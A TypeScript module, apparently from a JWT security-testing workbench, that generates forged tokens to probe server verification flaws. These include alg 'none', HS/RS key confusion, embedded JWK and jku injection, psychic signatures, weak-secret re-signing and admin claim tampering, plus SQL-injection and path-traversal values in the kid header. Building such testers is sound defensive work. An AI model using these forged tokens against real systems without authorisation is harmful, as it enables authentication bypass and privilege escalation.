// The attack presets: each turns the editor's header and payload (and the original token) into a token
// that tests one way a server gets JWT verification wrong. Pure and total: a preset that lacks what it needs
// (a public key, a URL, a weak secret, a generated key) answers why instead of throwing. Private keys come
// in from the worker (`generated`), never from a page (SECURITY.md, "Workbench").
import { hmac } from '@noble/hashes/hmac.js';
import { sha256, sha384, sha512 } from '@noble/hashes/sha2.js';
import { base64urlDecode, utf8Decode, utf8Encode } from '../base64url';
import { isJsonObject } from '../is-json-object';
import type { JsonObject } from '../types';
import { ATTACK_VARIANTS, type AttackId } from './attacks';
import type { PemVariant } from './pem-variants';
import { publicKeyPemVariants } from './public-key-pem';
import { compactToken, signatureBytes, signingInput } from './segments';
import { signCompact, type SigningKey } from './signing-key';

export interface PresetInput {
  header: JsonObject;
  payload: unknown;
  /** The captured token the editor started from (claim-tamper and broken-signature keep its signature). */
  original: string;
}

export interface PresetContext {
  variant?: string;
  /** The server's RSA public key (PEM or JWK text): hs-rs-confusion. */
  publicKey?: string;
  /** A URL the user typed (their own server): jku-injection. Never one a token names. */
  url?: string;
  /** The secret the weak-secret check found: weak-secret-resign. */
  weakSecret?: string;
  /** A key pair generated in the worker: embedded-jwk, jku-injection. */
  generated?: SigningKey;
  /** Seconds since the epoch (claim-tamper's new `exp`); tests set it. */
  now?: number;
}

export type PresetFailureCode =
  | 'needs-public-key'
  | 'needs-url'
  | 'needs-weak-secret'
  | 'needs-generated-key'
  | 'needs-edit'
  | 'bad-variant'
  | 'failed';

export type PresetResult =
  | { ok: true; attack: AttackId; variant: string; token: string }
  | { ok: false; attack: AttackId; code: PresetFailureCode; message: string };

const HASH_OF = { HS256: sha256, HS384: sha384, HS512: sha512 } as const;
type HmacAlg = keyof typeof HASH_OF;

/**
 * HMAC over the signing input with raw key bytes. @noble/hashes and not jose: WebCrypto refuses a
 * zero-length HMAC key ("Zero-length key is not supported"), and the empty key is what these presets test.
 */
function hmacToken(header: JsonObject, payload: unknown, alg: HmacAlg, key: Uint8Array): string {
  const h = { ...header, alg };
  return compactToken(h, payload, hmac(HASH_OF[alg], key, utf8Encode(signingInput(h, payload))));
}

const PSYCHIC_LENGTH = { ES256: 64, ES384: 96, ES512: 132 } as const;

function withoutKeyHints(header: JsonObject): JsonObject {
  const { jwk: _jwk, jku: _jku, x5u: _x5u, x5c: _x5c, kid: _kid, ...rest } = header;
  return rest;
}

function samePayload(a: unknown, b: unknown): boolean {
  return JSON.stringify(a) === JSON.stringify(b);
}

function originalPayload(original: string): unknown {
  const part = original.split('.')[1];
  if (part === undefined) return undefined;
  try {
    return JSON.parse(utf8Decode(base64urlDecode(part)));
  } catch {
    return undefined;
  }
}

function tamperedClaims(payload: unknown, variant: string, now: number): unknown {
  const claims = isJsonObject(payload) ? { ...payload } : {};
  switch (variant) {
    case 'sub':
      claims.sub = 'admin';
      return claims;
    case 'roles':
      claims.roles = ['admin'];
      claims.admin = true;
      return claims;
    default:
      claims.exp = now + 365 * 24 * 3600;
      return claims;
  }
}

function flipped(signature: Uint8Array | undefined): Uint8Array {
  const bytes = signature && signature.length > 0 ? Uint8Array.from(signature) : utf8Encode('not-a-signature');
  bytes[0] = bytes[0]! ^ 0x01;
  return bytes;
}

async function build(id: AttackId, input: PresetInput, ctx: PresetContext, variant: string): Promise<PresetResult> {
  const { header, payload, original } = input;
  const ok = (token: string): PresetResult => ({ ok: true, attack: id, variant, token });
  const fail = (code: PresetFailureCode, message: string): PresetResult => ({ ok: false, attack: id, code, message });
  switch (id) {
    case 'alg-none':
      return ok(compactToken({ ...header, alg: variant }, payload, ''));
    case 'null-signature':
      return ok(compactToken(header, payload, ''));
    case 'broken-signature':
      return ok(compactToken(header, payload, flipped(signatureBytes(original))));
    case 'empty-hmac-key':
      return ok(hmacToken(header, payload, variant as HmacAlg, new Uint8Array(0)));
    case 'hs-rs-confusion': {
      if (!ctx.publicKey?.trim())
        return fail('needs-public-key', "needs the server's RSA public key (PEM or JWK): add it, or pick a stored one");
      const pems = await publicKeyPemVariants(ctx.publicKey);
      return ok(hmacToken(header, payload, 'HS256', utf8Encode(pems[variant as PemVariant])));
    }
    case 'embedded-jwk': {
      const key = ctx.generated;
      if (!key?.publicJwk) return fail('needs-generated-key', 'needs a generated key pair');
      return ok(await signCompact({ ...withoutKeyHints(header), alg: key.alg, jwk: key.publicJwk }, payload, key));
    }
    case 'jku-injection': {
      const key = ctx.generated;
      const url = ctx.url?.trim();
      if (!url) return fail('needs-url', 'needs the URL of a key set on your own server (type it; a URL a token names is never used)');
      if (!/^https?:\/\//i.test(url)) return fail('needs-url', 'the URL must start with http:// or https://');
      if (!key?.publicJwk) return fail('needs-generated-key', 'needs a generated key pair (its public key is what your URL serves)');
      return ok(
        await signCompact({ ...withoutKeyHints(header), alg: key.alg, [variant]: url, kid: 'jwt-inspector-workbench' }, payload, key),
      );
    }
    case 'kid-traversal':
      if (variant === 'sql') {
        // The injected query answers the key the token is signed with.
        return ok(hmacToken({ ...header, kid: "x' UNION SELECT 'workbench'-- " }, payload, 'HS256', utf8Encode('workbench')));
      }
      return ok(hmacToken({ ...header, kid: '../../../../../../dev/null' }, payload, 'HS256', new Uint8Array(0)));
    case 'psychic-signature':
      return ok(compactToken({ ...header, alg: variant }, payload, new Uint8Array(PSYCHIC_LENGTH[variant as keyof typeof PSYCHIC_LENGTH])));
    case 'weak-secret-resign': {
      if (!ctx.weakSecret) return fail('needs-weak-secret', 'needs the secret the weak-secret check found (run it on an HS* token first)');
      const alg = typeof header.alg === 'string' && header.alg in HASH_OF ? (header.alg as HmacAlg) : 'HS256';
      return ok(hmacToken(header, payload, alg, utf8Encode(ctx.weakSecret)));
    }
    case 'claim-tamper': {
      if (variant === 'edited' && samePayload(payload, originalPayload(original))) {
        return fail('needs-edit', 'edit a claim first (or pick exp, sub or roles): unchanged claims are the original token');
      }
      const claims = variant === 'edited' ? payload : tamperedClaims(payload, variant, ctx.now ?? Math.floor(Date.now() / 1000));
      const sig = original.split('.')[2] ?? '';
      return ok(compactToken(header, claims, sig));
    }
  }
}

/** The variant a preset uses when none is chosen. */
export function defaultVariant(id: AttackId, input: PresetInput): string {
  if (id === 'claim-tamper') return samePayload(input.payload, originalPayload(input.original)) ? 'exp' : 'edited';
  return ATTACK_VARIANTS[id][0]!;
}

/** The token of one preset; never throws. */
export async function applyPreset(id: AttackId, input: PresetInput, ctx: PresetContext = {}): Promise<PresetResult> {
  const variants = ATTACK_VARIANTS[id];
  if (!variants) return { ok: false, attack: id, code: 'bad-variant', message: `unknown preset "${String(id)}"` };
  const variant = ctx.variant ?? defaultVariant(id, input);
  if (!variants.includes(variant)) return { ok: false, attack: id, code: 'bad-variant', message: `"${variant}" is not a variant of ${id}` };
  try {
    return await build(id, input, ctx, variant);
  } catch (e) {
    return { ok: false, attack: id, code: 'failed', message: e instanceof Error ? e.message : String(e) };
  }
}
